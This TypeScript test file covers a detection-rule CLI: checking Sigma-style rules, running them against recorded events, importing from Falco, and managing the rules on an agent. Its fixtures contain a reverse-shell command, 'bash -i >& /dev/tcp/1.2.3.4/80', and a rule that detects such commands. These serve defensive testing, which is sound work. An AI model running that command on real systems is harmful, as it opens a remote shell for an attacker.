import assert from 'node:assert/strict'
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, describe, it } from 'node:test'
import { runTetra } from '../../testing/run-tetra.ts'
import { TestAgent } from '../../testing/test-agent.ts'

const folder = mkdtempSync(join(tmpdir(), 'rules-'))
after(() => rmSync(folder, { recursive: true }))

function file(name: string, text: string): string {
  const path = join(folder, name)
  writeFileSync(path, text)
  return path
}

const logsource = 'logsource: {product: linux, category: process_creation}'
const id = '5a6f2b10-3f0a-4ed5-9d3e-111111111111'
const good = file(
  'good.yml',
  `title: Reverse Shell
id: ${id}
level: high
tags: [attack.t1059.004]
${logsource}
detection:
  shell: {Image|endswith: /bash, CommandLine|contains: /dev/tcp/}
  condition: shell
---
title: Our Backup
owner: storage
expires: 2100-01-31
${logsource}
filter:
  rules: [${id}]
  backup: {CurrentDirectory: /srv/backup}
  condition: not backup
---
title: Two Shells
correlation:
  type: event_count
  rules: [${id}]
  group-by: [ParentProcessGuid]
  timespan: 1m
  generate: true
  condition: {gte: 2}
`,
)

function exec(second: number, cwd: string): string {
  const process = {
    ...{ exec_id: `x${second}`, binary: '/bin/bash', cwd },
    arguments: '-i >& /dev/tcp/1.2.3.4/80',
  }
  const time = `2026-01-01T00:00:0${second}Z`
  return `${JSON.stringify({ process_exec: { process, parent: { exec_id: 'p' } }, time })}\n`
}

describe('tetra rules', () => {
  it('check shows errors with positions', async () => {
    const bad = file(
      'bad.yml',
      `title: a\n${logsource}\ndetection:\n  a: {Imge: x}\n  condition: a\n`,
    )
    const { out, err, code } = await runTetra(['rules', 'check', bad])
    assert.equal(code, 1)
    assert.match(
      out,
      /bad\.yml:4:7: error: process_creation has no field "Imge", did you mean "Image"/,
    )
    assert.match(err, /^0 rules and 0 correlations without errors, 1 error, 0 warnings$/m)
    assert.equal((await runTetra(['rules', 'check', good])).code, 0)
  })

  it('check refuses a huge file without reading it', async () => {
    const huge = file('huge.yml', 'a'.repeat(33 * 1024 * 1024))
    const { err, code } = await runTetra(['rules', 'check', huge])
    assert.equal(code, 1)
    assert.match(err, /read rules: .*huge\.yml is larger than 32 MiB/)
  })

  it('test prints findings of recorded events, and counts what filters except', async () => {
    const events = exec(1, '/') + exec(2, '/srv/backup') + exec(3, '/')
    const { out, err, code } = await runTetra(['rules', 'test', good], events)
    assert.equal(code, 0)
    assert.equal(out.match(/high Reverse Shell T1059\.004/g)?.length, 2)
    assert.match(out, /CommandLine: \/bin\/bash -i >& \[\/dev\/tcp\/\]1\.2\.3\.4\/80/)
    assert.match(out, /Two Shells\n {2}2 matches of ParentProcessGuid p\n/)
    assert.match(err, /^3 events, 3 findings of 2 rules, 1 excepted by filters/)
    const all = await runTetra(['rules', 'test', good, '--excepted'], events)
    assert.match(all.out, /excepted by Our Backup/)
  })

  it('hooks names the rules for which the kernel passes all calls', async () => {
    const connects = file(
      'connects.yml',
      ['DestinationPort: 22', 'Image: /bin/sh']
        .map((selection, i) => {
          const source = 'logsource: {product: linux, category: network_connection}'
          const fields = `{Initiated: true, ${selection}}`
          const level = ['high', 'low'][i]
          return `title: By ${['port', 'program'][i]}\nlevel: ${level}\n${source}\ndetection:\n  s: ${fields}\n  condition: s\n`
        })
        .join('---\n'),
    )
    const all = await runTetra(['rules', 'hooks', connects])
    assert.match(all.out, /^tcp_connect +2 +all +By program$/m)
    const high = await runTetra(['rules', 'hooks', connects, '--min-level', 'high', '-o', 'json'])
    assert.deepEqual(JSON.parse(high.out), {
      ...{ hook: 'tcp_connect', rules: 1, passes_all: false, alternatives: 1, unfiltered: [] },
    })
  })

  it('coverage makes a layer of the Navigator in three colours', async () => {
    const low = file(
      'low.yml',
      `title: Low
level: low
tags: [attack.t1033, attack.t1059.004]
${logsource}
detection: {a: {Image: /bin/id}, condition: a}
`,
    )
    const policy = file(
      'policy.yml',
      `metadata: {name: seen}
spec: {kprobes: [{call: f, tags: [attack.t1082, attack.t1033]}]}
`,
    )
    const args = ['rules', 'coverage', good, low, '--policies', policy]
    const layer = JSON.parse((await runTetra([...args, '-o', 'json'])).out)
    const { versions, domain, techniques, legendItems } = layer
    assert.deepEqual([versions.layer, domain], ['4.5', 'enterprise-attack'])
    assert.deepEqual(
      techniques.map((each: Record<string, unknown>) => [each.techniqueID, each.score]),
      [
        ['T1033', 2],
        ['T1059.004', 3],
        ['T1082', 1],
      ],
    )
    const colours = legendItems.map(({ color }: { color: string }) => color)
    assert.deepEqual(
      techniques.map(({ color }: { color: string }) => colours.indexOf(color)),
      [1, 0, 2],
    )
    const { out, code } = await runTetra(args)
    assert.equal(code, 0)
    assert.match(out, /^T1059\.004 +detected +2 +Reverse Shell$/m)
  })

  it('test selects levels and prints JSON', async () => {
    const args = ['rules', 'test', good, '--min-level', 'high', '-o', 'json']
    const lines = (await runTetra(args, exec(1, '/') + exec(3, '/'))).out.trim().split('\n')
    const parsed = lines.map((line) => JSON.parse(line))
    assert.deepEqual(
      parsed.map(({ title }) => title),
      ['Reverse Shell', 'Reverse Shell'],
    )
    assert.deepEqual(parsed[0].techniques, ['T1059.004'])
    assert.deepEqual(parsed[0].fields[1].range, [16, 25])
  })

  it('texts of events do not control the terminal', async () => {
    const event = exec(1, '/').replace('-i', '\\u001b[2J')
    const { out } = await runTetra(['rules', 'test', good], event)
    assert.doesNotMatch(out, /\x1b/)
  })

  it('list, show, explain and fields', async () => {
    const list = await runTetra(['rules', 'list', good])
    assert.match(list.out, /high +T1059\.004 +process_creation +1 +Reverse Shell\n/)
    assert.match(list.out, /\nfilter Our Backup \(owner: storage, until 2100-01-31\)\n$/)
    const listed = JSON.parse(
      (await runTetra(['rules', 'list', good, '-o', 'json'])).out.split('\n')[0],
    )
    const exception = { title: 'Our Backup', owner: 'storage', expires: '2100-01-31' }
    assert.deepEqual(listed.exceptions, [{ ...exception, expired: false }])
    const show = await runTetra(['rules', 'show', id, good])
    assert.match(
      show.out,
      /filter Our Backup \(owner: storage, until 2100-01-31\):\n {2}not\n {4}CurrentDirectory is "\/srv\/backup"/,
    )
    const explain = await runTetra(['rules', 'explain', 'reverse shell', good])
    assert.match(
      explain.out,
      /only if one of these is found\n {4}CommandLine is "\*\/dev\/tcp\/\*"\n {2}exception: Our Backup \(owner: storage, until .*\)\n {2}action: kill is refused/,
    )
    assert.match(explain.out, /good\.yml:16:12: CurrentDirectory: the kernel decides on the path/)
    const correlation = await runTetra(['rules', 'show', 'two shells', good])
    assert.match(
      correlation.out,
      /event_count, at least 2 in 60 s\n.*ParentProcessGuid\nrules:\n {2}Reverse/,
    )
    const parts = await runTetra(['rules', 'explain', 'two shells', good])
    assert.match(parts.out, /^Reverse Shell\n {2}log source: process_creation/)
    const fields = await runTetra(['rules', 'fields', 'file_event'])
    assert.match(fields.out, /TargetFilename +text +path of the file/)
    const unknown = await runTetra(['rules', 'show', 'reverse shall', good])
    assert.equal(unknown.code, 2)
    assert.match(unknown.err, /did you mean "Reverse Shell"\?/)
  })

  it('import falco prints rules that check accepts, and names the others', async () => {
    const falco = file(
      'falco.yaml',
      `- macro: started
  condition: (evt.type in (execve, execveat) and evt.dir=<)
- rule: Shell
  desc: a shell
  condition: started and proc.name in (bash, sh)
  output: shell
  priority: ERROR
- rule: Fork
  desc: a fork
  condition: evt.type = clone
  output: fork
  priority: ERROR
`,
    )
    const { out, err, code } = await runTetra(['rules', 'import', 'falco', falco])
    assert.equal(code, 0)
    assert.match(err, /falco\.yaml:10:3: error: Fork: clone: forks without a program have no event/)
    assert.match(err, /\n1 rule translated, 1 refused\n$/)
    const checked = await runTetra(['rules', 'test', file('sigma.yml', out)], exec(1, '/'))
    assert.match(checked.out, /Shell/)
    const nothing = await runTetra(['rules', 'import', 'falco', '-'], 'a: b\n')
    assert.equal(nothing.code, 1)
    assert.match(nothing.err, /an item of a file of Falco is a rule, macro or list/)
  })

  it('add, status and delete ask the agent', async () => {
    const agent = await TestAgent.start(join(folder, 'agent.sock'))
    try {
      const address = ['--server-address', `unix://${agent.path}`]
      agent.answer('AddRules', { count: 3 })
      const added = await runTetra(['rules', 'add', ...address, good])
      assert.equal(added.out, 'rules "good.yml" added: 3 rules in force\n')
      const twice = await runTetra(['rules', 'add', ...address, '--name', 'x', good, good])
      assert.equal(twice.code, 2)
      assert.match(twice.err, /--name is for one file/)
      const [{ name, text }] = agent.requestsOf('AddRules') as { name: string; text: string }[]
      assert.equal(name, 'good.yml')
      assert.match(text, /^title: Reverse Shell/)
      agent.answer('ListRules', {
        rules: [
          { title: 'Quiet', source: 'file_event', file: 'a.yml' },
          {
            title: 'Shell\x1b',
            level: 'high',
            techniques: ['T1059'],
            source: 'process_creation',
            ...{
              findings: '7',
              repeated: '5',
              evaluations: '90',
              last_finding: '2026-01-01T00:00:00Z',
            },
            excepted: [{ filter: 'f', count: '3', last: '2026-01-02T00:00:00Z' }],
          },
        ],
        filters: [
          { filter: 'f', title: 'Backup', owner: 'ann', expires: '2020-01-31', expired: true },
          { filter: 'g', title: 'Later', expires: '2100-01-31' },
        ],
        left_out: ['rule left out: b.yml:1:1: title is missing'],
        repeated: '5',
        policies: [
          { name: 'opens', state: 'TP_STATE_ENABLED', mode: 'TP_MODE_MONITOR_ONLY' },
          {
            ...{ name: 'kills', state: 'TP_STATE_ENABLED', mode: 'TP_MODE_MONITOR' },
            stats: { action_counters: { monitor_signal: '3' } },
          },
          {
            ...{
              name: 'fails',
              state: 'TP_STATE_LOAD_ERROR',
              error: 'add policy fails:\nno such function\nmore',
            },
            kernel_memory_bytes: '2048',
          },
        ],
      })
      const status = await runTetra(['rules', 'status', ...address])
      assert.match(
        status.out,
        /^FINDINGS +LEVEL.*\n +7 +high +T1059 +process_creation +Shell\\x1b.*\n +0 +- +- +file_event +Quiet +a\.yml\n/,
      )
      assert.match(
        status.out,
        /2 rules in force\npolicies of rules: 2 of 3 in force, 2.*\nkills: only monitors, would have acted 3 times\nfails: load_error: no such function\nexception Backup \(owner: ann, expired after 2020-01-31\)\nnot in events: 5 repeated\n$/,
      )
      assert.match(status.err, /title is missing/)
      const stats = await runTetra(['rules', 'stats', ...address])
      assert.match(
        stats.out,
        /^FINDINGS +REPEATED.*\n +7 +5 +0 +3 +90 +2026-01-01T00:00:00Z +high +Shell\\x1b\n {2}3 by Backup, last 2026-01-02T00:00:00Z\n +0 .* - +- +Quiet\n$/,
      )
      const parsed = (await runTetra(['rules', 'stats', ...address, '-o', 'json'])).out.split('\n')
      const [{ filters, excepted }] = parsed.slice(0, 2).map((line) => JSON.parse(line))
      assert.deepEqual(
        [excepted, filters],
        [3, [{ filter: 'f', title: 'Backup', count: 3, last: '2026-01-02T00:00:00Z' }]],
      )
      for (const [answer, line] of [
        [{}, 'no detection rules are in force\n'],
        [{ starting: true }, 'the agent reads its first detection rules; events wait for them\n'],
      ] as const) {
        agent.answer('ListRules', answer)
        assert.equal((await runTetra(['rules', 'status', ...address])).out, line)
      }
      agent.failOnly('DeleteRules', 5, 'delete rules: none were added as "x"')
      const deleted = await runTetra(['rules', 'delete', ...address, 'x'])
      assert.equal(deleted.code, 1)
      assert.match(deleted.err, /none were added as "x"/)
    } finally {
      await agent.stop()
    }
  })
})
